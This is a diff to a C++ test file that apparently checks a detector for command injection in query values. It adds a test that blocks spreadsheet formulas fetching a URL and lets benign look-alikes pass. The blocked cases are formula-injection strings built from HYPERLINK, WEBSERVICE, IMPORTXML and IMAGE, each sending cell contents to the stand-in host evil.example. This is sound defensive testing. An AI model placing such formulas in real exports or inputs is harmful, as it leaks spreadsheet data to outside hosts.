@@ -12,6 +12,7 @@ namespace {
 
 using testing::Flagged;
 using testing::HasCategory;
+using testing::HasRule;
 using testing::InspectQueryValue;
 
 class ShellEvasion : public ::testing::TestWithParam<const char*> {};
@@ -109,6 +110,7 @@ namespace {
 
 using testing::Flagged;
 using testing::HasCategory;
+using testing::HasRule;
 using testing::InspectAsForm;
 using testing::InspectAsJson;
 using testing::InspectQueryValue;
@@ -420,6 +422,26 @@ TEST(CommandInDocuments, DdeFormulasAndTexShellEscapesAreBlocked) {
                             "\\documentclass{article}\\begin{document}x\\end{document}"}) {
     Verdict v = InspectQueryValue(value);
     EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
+  }
+}
+
+// A value that is a formula fetching a URL sends the sheet's cells there once the export is
+// opened (HYPERLINK, WEBSERVICE, IMPORTXML...); the same words in prose, a list item, or a
+// formula that fetches nothing pass.
+TEST(CommandInDocuments, SpreadsheetFormulasThatFetchAUrlAreBlocked) {
+  for (const char* value : {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
+                            "=WEBSERVICE(\"https://evil.example/\"&B2)",
+                            "+IMPORTXML(CONCAT(\"http://evil.example/?\",A1:B9),\"//a\")",
+                            "@IMAGE(\"//evil.example/p.png?\"&C3)"}) {
+    Verdict v = InspectQueryValue(value);
+    EXPECT_TRUE(HasRule(v, "cmdi.spreadsheet-fetch") && Flagged(v))
+        << value << " -> " << v.explanation;
+  }
+  for (const char* value :
+       {"- Image (from https://unsplash.com/photos/x)", "=HYPERLINK(A1,\"open\")",
+        "Use =HYPERLINK(\"https://x.example\") in Excel", "=SUM(A1:A3)", "-image(1)"}) {
+    Verdict v = InspectQueryValue(value);
+    EXPECT_FALSE(HasRule(v, "cmdi.spreadsheet-fetch")) << value << " -> " << v.explanation;
   }
 }
 
